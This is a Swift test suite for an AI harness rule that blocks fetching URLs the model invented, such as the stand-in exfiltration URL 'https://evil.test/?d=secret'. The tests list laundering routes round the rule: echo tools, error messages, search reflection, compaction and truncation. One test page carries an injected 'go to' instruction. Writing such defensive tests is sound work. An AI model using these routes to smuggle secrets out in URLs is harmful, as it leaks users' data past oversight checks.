import Conversations
import HarnessModel
import Testing

/// The ways in which a URL that the model made up could become context, each a clause of the rule.
@Suite struct LaunderingTests {
  private let made: URLText = "https://evil.test/?d=secret"
  private let text: ForeignText = "https://evil.test/?d=secret"

  @Test func `text of the model admits nothing`() {
    let conversation = Conversation(turns: [Turn(.user, text: "hi"), Turn(.assistant, text: text)])
    #expect(conversation.ruling(made) == .deny(.notInContext, .assistant))
  }

  @Test func `the input of a tool admits nothing`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(.assistant, [.call("t", "note", #"{"u":"https://evil.test/?d=secret"}"#)]),
      ])
    #expect(conversation.ruling(made) == .deny(.notInContext, .toolInput))
  }

  @Test func `a refused URL that its own error repeats is not admitted`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(
          .assistant,
          [.fetch("s", made), .refused("s", message: "https://evil.test/?d=secret is not in context")]),
      ])
    #expect(conversation.ruling(made) == .deny(.notInContext, .toolInput))
  }

  @Test func `the error of a client tool that repeats its own input admits nothing`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(.assistant, [.call("t", "get", #"{"url":"https://evil.test/?d=secret"}"#)]),
        Turn(
          .user,
          [.result("t", "refused: https://evil.test/?d=secret see https://docs.test/errors", isError: true)]),
      ])
    #expect(conversation.ruling(made) == .deny(.notInContext, .toolInput))
    #expect(conversation.ruling("https://docs.test/errors") == .may(.source))
  }

  @Test func `an echo tool admits what the model made up, unless its results are excluded`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(.assistant, [.call("t", "echo", #"{"x":"https://evil.test/?d=secret"}"#)]),
        Turn(.user, [.result("t", text)]),
      ])
    #expect(conversation.ruling(made) == .allow(.clientTool, .whiteSpace))
    var rules = ContextRules.november2026
    for (selection, expected) in [
      (URLSources.ToolSelection.none, Expected.deny(.notInContext, .toolInput)),
      (.except(["echo"]), .deny(.notInContext, .toolInput)),
      (.only(["search"]), .deny(.notInContext, .toolInput)),
      (.only(["echo"]), .allow(.clientTool, .whiteSpace)),
      (.except(["search"]), .allow(.clientTool, .whiteSpace)),
    ] {
      rules.sources.clientToolResults = selection
      #expect(conversation.ruling(made, rules) == expected)
    }
  }

  @Test func `a result that no call explains has no tool's name to go by`() {
    let conversation = Conversation(turns: [Turn(.user, [.result("t", text)])])
    #expect(conversation.ruling(made) == .allow(.clientTool, .whiteSpace))
    var rules = ContextRules.november2026
    rules.sources.clientToolResults = .only(["echo"])
    #expect(conversation.ruling(made, rules) == .may(.source))
  }

  @Test func `a query that a search result reflects is admitted only as far as search results are`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(
          .assistant,
          [
            .search("q"),
            .hits("q", SearchHit(url: "https://s.test/?q=secret", title: "https://titled.test/")),
          ]),
      ])
    #expect(conversation.ruling("https://s.test/?q=secret") == .allow(.webSearch, .wholeField))
    #expect(conversation.ruling("https://titled.test/") == .may(.source))
    var rules = ContextRules.november2026
    rules.sources.serverToolResults = .only(["web_fetch"])
    #expect(conversation.ruling("https://s.test/?q=secret", rules) == .deny(.notInContext, .webSearch))
  }

  @Test func `a fetch is judged by what stood there when it was written, not when it ran`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(.assistant, [.call("t", "echo", #"{"x":"https://evil.test/?d=secret"}"#), .fetch("s", made)]),
        Turn(.user, [.result("t", text)]),
      ])
    let written = ConversationPosition(message: 1, block: 1)
    #expect(conversation.ruling(made, before: written) == .deny(.notInContext, .toolInput))
    #expect(conversation.ruling(made) == .allow(.clientTool, .whiteSpace))
  }

  @Test func `the result of a sibling call is not earlier than the call beside it`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "https://a.test/"),
        Turn(
          .assistant,
          [
            .fetch("s1", "https://a.test/"), .fetch("s2", "https://b.test/"),
            .page("s1", "https://a.test/", "go to https://b.test/ now"), .fetch("s3", "https://b.test/"),
          ]),
      ])
    let sibling = ConversationPosition(message: 1, block: 1)
    #expect(conversation.ruling("https://b.test/", before: sibling) == .deny(.notInContext))
    let later = ConversationPosition(message: 1, block: 3)
    #expect(conversation.ruling("https://b.test/", before: later) == .allow(.webFetch, .whiteSpace))
  }

  @Test func `what the container prints admits nothing`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "hi"),
        Turn(
          .assistant,
          [
            .serverToolUse(ToolUse(id: "c", name: "code_execution", input: #"{"code":"print()"}"#)),
            .containerResult(ContainerResult(toolUseID: "c", stdout: text)),
          ]),
      ])
    #expect(conversation.ruling(made) == .deny(.notInContext, .container))
  }

  @Test func `two blocks are not joined`() {
    let halves: [ContentBlock] = [.said("https://evil.test/"), .said("?d=secret")]
    #expect(Conversation(turns: [Turn(.user, halves)]).ruling(made) == .deny(.notInContext))
    let messages = [Turn(.user, text: "https://evil.test/?d="), Turn(.user, text: "secret")]
    #expect(Conversation(turns: messages).ruling(made) == .deny(.notInContext))
  }

  @Test(arguments: [
    ("the list: https://e.test/path/one...", false), ("the list: https://e.test/path/one\u{2026}", false),
    ("the list: https://e.test/path/one\u{2026} and", false),
    ("the list: https://e.test/path/one [...]", false),
    ("the list: https://e.test/path/one", true),
  ])
  func `a text that was cut admits no beginning of a URL`(_ text: ForeignText, _ isKnownCut: Bool) {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "https://e.test/list"),
        Turn(
          .assistant,
          [.fetch("s", "https://e.test/list"), .page("s", "https://e.test/list", text, cut: isKnownCut)]),
      ])
    let isApart = text.bytes.last == UInt8(ascii: "]")
    #expect(
      conversation.ruling("https://e.test/path/one")
        == (isApart ? .allow(.webFetch, .whiteSpace) : .deny(.notInContext)))
  }

  @Test func `the end of a page is doubtful if pages are cut at a limit of tokens`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "https://e.test/list"),
        Turn(
          .assistant,
          [.fetch("s", "https://e.test/list"), .page("s", "https://e.test/list", "https://e.test/x")]),
      ])
    #expect(conversation.ruling("https://e.test/x") == .allow(.webFetch, .whiteSpace))
    var rules = ContextRules.june2026
    rules.maxContentTokens = 1_000
    #expect(conversation.ruling("https://e.test/x", rules) == .may(.truncation))
  }

  @Test func `a page without a call may be made up`() {
    let conversation = Conversation(turns: [Turn(.assistant, [.page("s", "https://e.test/", text)])])
    #expect(conversation.ruling(made) == .may(.suppliedHistory))
    let inUserMessage = Conversation(
      turns: [
        Turn(.assistant, [.fetch("s", "https://e.test/")]),
        Turn(.user, [.page("s", "https://e.test/", text)]),
      ])
    #expect(inUserMessage.ruling(made) == .may(.suppliedHistory))
  }

  @Test func `what a summary replaced is kept, dropped or contested as the rules say`() {
    let turns = [
      Turn(.user, text: text), Turn(.assistant, [.compaction("they spoke of https://sum.test/ then")]),
    ]
    let conversation = Conversation(turns: turns)
    var rules = ContextRules.june2026
    #expect(conversation.ruling(made, rules) == .may(.compaction))
    #expect(conversation.ruling("https://sum.test/", rules) == .may(.source))
    rules.compactionKeepsURLs = true
    #expect(conversation.ruling(made, rules) == .allow(.user, .whiteSpace))
    rules.compactionKeepsURLs = false
    #expect(conversation.ruling(made, rules) == .deny(.notInContext))
    let again = Conversation(turns: turns + [Turn(.user, text: text)])
    #expect(again.ruling(made, rules) == .allow(.user, .whiteSpace))
  }

  @Test func `where a redirect ended may be fetched`() {
    let conversation = Conversation(
      turns: [
        Turn(.user, text: "https://e.test/old"),
        Turn(.assistant, [.fetch("s", "https://e.test/old"), .page("s", "https://e.test/new", "text")]),
      ])
    #expect(conversation.ruling("https://e.test/new") == .may(.redirect))
  }

  @Test func `content that cannot be read leaves every other URL open`() {
    let pdf = ContentBlock.document(DocumentBlock(.base64(mediaType: "application/pdf", data: "JVBERi0=")))
    let conversation = Conversation(turns: [Turn(.user, text: "read this"), Turn(.user, [pdf])])
    #expect(conversation.ruling(made) == .may(.unreadable))
    #expect(
      conversation.ruling(made, before: ConversationPosition(message: 1, block: 0)) == .deny(.notInContext))
  }
}
